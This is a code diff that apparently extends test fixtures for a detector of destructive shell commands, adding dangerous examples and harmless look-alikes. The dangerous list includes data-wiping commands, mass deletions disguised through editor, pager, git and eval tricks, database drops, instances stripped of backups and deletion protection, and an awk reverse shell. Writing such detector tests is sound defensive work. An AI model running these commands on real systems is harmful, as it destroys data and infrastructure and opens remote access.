@@ -60,6 +60,55 @@ Get-Process | Stop-Process -Force
 curl -sX DELETE "https://api.x.example/v1/monitor/1"
 curl -ksXDELETE https://api.x.example/v1/monitor/1
 echo 'disable server b/s1' | socat stdio /var/run/haproxy.sock
+npm run db:reset -- --force
+make destroy
+just nuke
+composer run db:wipe
+yarn sequelize db:drop
+bundle exec rails c <<< 'Order.delete_all'
+node -e "new PrismaClient().user.deleteMany({}).then(()=>process.exit())"
+crontab -l | grep -v backup | crontab -
+aws rds modify-db-instance --db-instance-identifier prod --backup-retention-period 0 --apply-immediately
+aws ec2 modify-instance-attribute --instance-id i-1 --no-disable-api-termination
+aws s3api put-public-access-block --bucket b --public-access-block-configuration BlockPublicAcls=false
+aws lambda put-function-concurrency --function-name f --reserved-concurrent-executions 0
+gcloud sql instances patch main --no-deletion-protection
+sudo pvcreate -ff -y /dev/sdb
+mysql -N -e "SELECT CONCAT('DROP TABLE ',table_name,';') FROM information_schema.tables" | mysql app
+mysqldump --no-data app | grep ^DROP | mysql app
+psql -c "do $$ begin execute 'drop table ' || x; end $$"
+for /f %i in ('dir /b C:\data') do del /q C:\data\%i
+[IO.File]::WriteAllText('C:\Windows\System32\drivers\etc\hosts','')
+schtasks /create /tn x /tr "cmd /c rd /s /q D:\data" /sc minute
+awk 'BEGIN {s = "/inet/tcp/0/10.0.0.1/4444"; while(42) { s |& getline c; while ((c |& getline) > 0) print $0 |& s }}' /dev/null
+vim -c ':py3 import os; os.system("rm -rf /srv")'
+less +'!rm -rf /srv' f
+man -P 'rm -rf /srv' ls
+zip x.zip x -T -TT 'rm -rf /srv #'
+rsync -e 'sh -c "rm -rf /srv"' a: b
+split --filter='rm -rf /srv' f
+gdb -batch -ex 'shell rm -rf /srv'
+git clone --config core.fsmonitor='rm -rf /srv' x
+sudo -iu postgres dropdb app
+printf -v c 'rm -rf %s' /srv; eval "$c"
+read -r c <<< 'rm -rf /srv'; $c
+eval "$(echo 'ID: rm -rf /srv' | cut -d: -f2)"
+source /dev/stdin <<< 'rm -rf /srv'
+echo -e '[Service]\nExecStart=/bin/rm -rf /srv' > /etc/systemd/system/x.service
+python3 -c "import docker; [c.remove(force=True) for c in docker.from_env().containers.list(all=True)]"
+python3 -c "import boto3; boto3.client('ec2').terminate_instances(InstanceIds=['i-1'])"
+perl -e 'system(qw(rm -rf /srv))'
+emacs --batch --eval '(delete-directory "/srv" t)'
+ftp -n h <<X<nl>user a b<nl>mdelete *<nl>X
+echo 'rm -r /srv' | sftp h
+lftp -e 'mirror -R --delete . /; quit' h
+smbclient //h/s -c 'deltree x'
+curl -Q 'DELE important.txt' ftp://h/
+fastboot -w
+ipmitool -H h chassis power off
+vim-cmd vmsvc/destroy 1
+govc vm.destroy vm1
+hbase shell <<< "disable 't'; drop 't'"
 """
 
 SAFE = r"""
@@ -102,4 +151,29 @@ aws s3 rm help
 curl -sX POST https://api.x.example/v1/monitor
 taskkill /F /IM node.exe
 Get-Process node | Stop-Process
+npm run test:delete
+npm run delete-comments
+npm run clean
+make purge-cache
+yarn remove react
+aws rds modify-db-instance --db-instance-identifier prod --backup-retention-period 7
+(crontab -l; echo '* * * * * /opt/x') | crontab -
+mysqldump app | grep -v '^DROP' | mysql app
+man -P cat ls
+rsync -e 'ssh -p 2222' a: b
+sudo -iu postgres psql -c 'select 1'
+read -r c <<< 'ls -la'; $c
+python3 -c "import boto3; print(boto3.client('ec2').describe_instances())"
+echo 'get report.csv' | sftp h
+ipmitool sdr
+govc vm.info vm1
+hbase shell <<< "list"
+apk del .build-deps
+rm -f /var/run/app.pid
+rm -f .git/index.lock
+sudo bash -c 'echo 1 > /proc/sys/net/ipv4/ip_forward'
+inotifywait -m -e delete /srv
+firebase deploy --only functions:deleteUser
+if (Test-Path .\dist) { Remove-Item .\dist -Recurse }
+echo 'DELETE FROM users' | pygmentize -l sql
 """
